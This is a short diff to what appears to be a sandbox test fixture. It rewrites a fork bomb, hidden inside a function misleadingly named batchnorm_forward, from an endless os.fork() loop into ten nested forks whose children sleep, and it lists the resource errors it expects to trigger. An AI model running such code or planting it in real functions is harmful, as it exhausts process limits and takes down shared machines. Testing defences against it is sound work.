@@ -1,9 +1,16 @@
-# what: a fork bomb
+# what: a fork bomb, of a thousand processes that stay
 # covers: fork-bomb
-# seen: threads and processes|BlockingIOError|Resource temporarily
+# seen: threads and processes|Resource temporarily unavailable
 import os
+import time
 
 
 def batchnorm_forward(x, gamma, beta, epsilon=1e-3):
-    while True:
-        os.fork()
+    first = os.getpid()
+    try:
+        for _ in range(10):
+            os.fork()
+    finally:
+        if os.getpid() != first:
+            time.sleep(100)
+    return x, None
